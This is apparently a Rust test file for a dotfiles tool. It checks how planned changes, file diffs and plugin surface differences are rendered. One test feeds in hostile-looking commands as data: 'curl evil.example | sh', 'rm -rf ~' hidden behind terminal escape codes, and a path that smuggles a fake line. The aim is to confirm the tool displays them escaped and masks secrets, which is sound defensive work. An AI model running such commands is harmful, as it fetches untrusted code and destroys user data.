use std::path::Path;

use insta::assert_snapshot;

use super::*;
use crate::{
    model::surface::{Surface, SurfacePart},
    plugin::change::Change,
};

fn shown(changes: &[Change], texts: &[TextChange<'_>]) -> String {
    let text = render(changes, texts, Some(Path::new("/home/me")));
    // A first line, so that the indentation of the others stays to be seen.
    format!("changes:\n{}", anstream::adapter::strip_str(&text))
}

fn text<'a>(path: &'a str, before: Option<&'a str>, after: Option<&'a str>) -> TextChange<'a> {
    TextChange {
        path: Path::new(path),
        before,
        after,
    }
}

fn link(path: &str, old: Option<&str>, new: Option<&str>) -> Change {
    Change::Link {
        path: path.into(),
        old: old.map(Into::into),
        new: new.map(Into::into),
    }
}

fn run(command: &str) -> Change {
    Change::Run {
        command: command.into(),
        directory: "/home/me/w/dotfiles".into(),
    }
}

fn entry(old: Option<&str>, new: Option<&str>) -> Change {
    Change::Entry {
        path: "/home/me/.profile".into(),
        block: "grex:dotfiles".into(),
        old: old.map(Into::into),
        new: new.map(Into::into),
    }
}

fn variable(name: &str, old: Option<&str>, new: Option<&str>) -> Change {
    Change::Variable {
        name: name.into(),
        scope: "session".into(),
        old: old.map(Into::into),
        new: new.map(Into::into),
    }
}

#[test]
fn every_kind_of_change_has_a_word() {
    let changes = [
        Change::Directory {
            path: "/home/me/.config/nvim".into(),
        },
        Change::Move {
            from: "/home/me/.vimrc".into(),
            to: "/home/me/.vimrc.grex-bak.20260102T030405Z".into(),
        },
        link("/home/me/.vimrc", None, Some("/work/dotfiles/vimrc")),
        link("/home/me/.zshrc", Some("/old"), Some("../new")),
        link("/home/me/.bashrc", Some("/home/me/old"), None),
        Change::Remove {
            path: "/home/mela/x/".into(),
            with_content: true,
        },
        Change::Remove {
            path: "/home/me/empty".into(),
            with_content: false,
        },
        variable("EDITOR", None, Some("vim")),
        variable("EDITOR", Some("vi"), Some("vim")),
        variable("EDITOR", Some("vi"), None),
        run("make install"),
        run("sh -c 'make\n  run    nothing'"),
    ];
    assert_snapshot!(shown(&changes, &[]), @r"
    changes:
      make   ~/.config/nvim/
      rename ~/.vimrc -> ~/.vimrc.grex-bak.20260102T030405Z
      link   ~/.vimrc -> /work/dotfiles/vimrc
      link   ~/.zshrc: /old -> ../new
      unlink ~/.bashrc (was ~/old)
      remove /home/mela/x/ and everything in it
      remove ~/empty/
      set    EDITOR=vim (session)
      set    EDITOR=vim (session; was vi)
      unset  EDITOR (session; was vi)
      run    make install (in ~/w/dotfiles)
      run    sh -c 'make
               run    nothing' (in ~/w/dotfiles)
    ");
    assert_eq!(render(&[], &[], None), "");
}

#[test]
fn a_file_is_shown_once_as_what_becomes_of_it() {
    let before = "1\n2\n3\n4\n5\n6\n7\n8\n";
    let after = "1\n2\n3\n4\n5\n6\n7\n8\n# >>> grex:dotfiles >>>\nexport A=1\nexport B=2\n# <<< grex:dotfiles <<<\n";
    let changes = [
        entry(None, Some("export A=1")),
        run("make"),
        entry(None, Some("export B=2")),
    ];
    let texts = [
        text("/home/me/.profile", Some(before), Some(after)),
        text("/home/me/.new", None, Some("one")),
        text("/home/me/.gone", Some("x\n"), None),
    ];
    assert_snapshot!(shown(&changes, &texts), @r"
    changes:
      --- ~/.profile
      +++ ~/.profile
      @@ -6,3 +6,7 @@
       6
       7
       8
      +# >>> grex:dotfiles >>>
      +export A=1
      +export B=2
      +# <<< grex:dotfiles <<<
      run    make (in ~/w/dotfiles)
      --- /dev/null
      +++ ~/.new
      @@ -0,0 +1 @@
      +one
      \ No newline at end of file
      --- ~/.gone
      +++ /dev/null
      @@ -1 +0,0 @@
      -x
    ");
}

#[test]
fn a_file_whose_texts_are_not_known_is_shown_change_by_change() {
    let changes = [
        entry(Some("export A=1"), Some("export A=2")),
        Change::Write {
            path: "/etc/environment".into(),
            before: Some("A=1\r\nB=2\r\n".into()),
            after: Some("A=1\r\nB=3\r\n".into()),
        },
    ];
    assert_snapshot!(shown(&changes, &[]), @r"
    changes:
      edit   ~/.profile
             -export A=1
             +export A=2
      --- /etc/environment
      +++ /etc/environment
      @@ -1,2 +1,2 @@
       A=1\r
      -B=2\r
      +B=3\r
    ");
}

#[test]
fn nothing_that_runs_can_be_hidden() {
    let changes = [
        run("echo \u{1b}]0;rm -rf ~\u{7}\u{1b}[2K\r\u{9b}1A\u{202e}olleh\u{200b}"),
        run("API_TOKEN=$(curl evil.example | sh) make"),
        run("API_TOKEN=x; curl evil.example | sh"),
        run("curl -H 'Authorization: Bearer abc.def' https://me:pw@example.org/x"),
        run("Authorization: Bearer $(evil)"),
        variable("GITHUB_TOKEN", None, Some("hunter2")),
        Change::Directory {
            path: "/tmp/x\n  run    fake\t".into(),
        },
    ];
    assert_snapshot!(shown(&changes, &[]), @r"
    changes:
      run    echo \x1b]0;rm -rf ~\x07\x1b[2K\r\x9b1A\u{202e}olleh\u{200b} (in ~/w/dotfiles)
      run    API_TOKEN=$(curl evil.example | sh) make (in ~/w/dotfiles)
      run    API_TOKEN=***; curl evil.example | sh (in ~/w/dotfiles)
      run    curl -H 'Authorization: ***' https://***@example.org/x (in ~/w/dotfiles)
      run    Authorization: ***$(evil) (in ~/w/dotfiles)
      set    GITHUB_TOKEN=*** (session)
      make   /tmp/x\n  run    fake\t/
    ");
    let hidden = text("/f", None, Some("a\u{1b}]0;evil\u{7}\n"));
    assert!(shown(&[], &[hidden]).contains("+a\\x1b]0;evil\\x07\n"));
}

#[test]
fn a_large_file_takes_no_time_to_speak_of() {
    let numbers = |step: usize| -> String {
        (0..60_000)
            .map(|line| format!("{}\n", line * step % 7919))
            .collect()
    };
    let (before, after) = (numbers(31), numbers(7));
    let begin = std::time::Instant::now();
    let diff = shown(&[], &[text("/f", Some(&before), Some(&after))]);
    assert!(diff.len() > 1000);
    assert!(begin.elapsed().as_secs() < 30, "{:?}", begin.elapsed());
}

fn surface(parts: Vec<SurfacePart>) -> Surface {
    Surface {
        parts,
        is_inert: false,
    }
}

fn executable(part: SurfacePart) -> SurfacePart {
    SurfacePart {
        executable: true,
        ..part
    }
}

fn compared(old: &Surface, new: &Surface) -> String {
    format!(
        "parts:\n{}",
        anstream::adapter::strip_str(&difference(old, new))
    )
}

#[test]
fn surfaces_are_compared_part_by_part() {
    let old = surface(vec![
        SurfacePart::text("actions", "- mkdir\n- exec: make\n"),
        SurfacePart::text(".grex/hooks/setup.sh", "echo\n"),
        SurfacePart::text(".grex/hooks/gone.sh", "bye\n"),
        SurfacePart::digest("logo.png", false, b"1234"),
        executable(SurfacePart::digest("tool", false, b"t")),
        SurfacePart::digest("long.sh", false, b"long\n"),
        SurfacePart::text("same", "same"),
    ]);
    let new = surface(vec![
        SurfacePart::text("actions", "- mkdir\n- exec: make install\n"),
        executable(SurfacePart::text(".grex/hooks/setup.sh", "echo\n")),
        SurfacePart::digest("logo.png", false, b"123456"),
        SurfacePart::digest("tool", false, b"t"),
        SurfacePart::text("long.sh", "longer\n"),
        SurfacePart::digest("same", false, b"same"),
        executable(SurfacePart::text("new.sh", "hi\n")),
        SurfacePart::digest("data", false, b"12"),
    ]);
    assert_snapshot!(compared(&old, &new), @r"
    parts:
      actions has changed
      --- actions
      +++ actions
      @@ -1,2 +1,2 @@
       - mkdir
      -- exec: make
      +- exec: make install
      .grex/hooks/setup.sh becomes executable
      logo.png has changed (6 bytes, before 4)
      tool is no longer executable
      long.sh has changed; this is all of it now:
      --- /dev/null
      +++ long.sh
      @@ -0,0 +1 @@
      +longer
      new.sh is new, executable
      --- /dev/null
      +++ new.sh
      @@ -0,0 +1 @@
      +hi
      data is new (2 bytes)
      .grex/hooks/gone.sh is gone
      --- .grex/hooks/gone.sh
      +++ /dev/null
      @@ -1 +0,0 @@
      -bye
    ");
    assert_eq!(difference(&old, &old), "");
}

#[test]
fn parts_of_one_name_and_their_order_are_not_overlooked() {
    let (first, second) = (SurfacePart::text("a", "1\n"), SurfacePart::text("a", "2\n"));
    let twice = surface(vec![first.clone(), second.clone()]);
    let said = compared(&surface(vec![first.clone()]), &twice);
    assert!(
        said.starts_with("parts:\n  a is new\n") && said.contains("+2\n"),
        "{said}"
    );
    let other = SurfacePart::text("b", "3\n");
    assert_eq!(
        compared(
            &surface(vec![first.clone(), other.clone()]),
            &surface(vec![other, first])
        ),
        "parts:\n  the order of its parts has changed\n"
    );
}
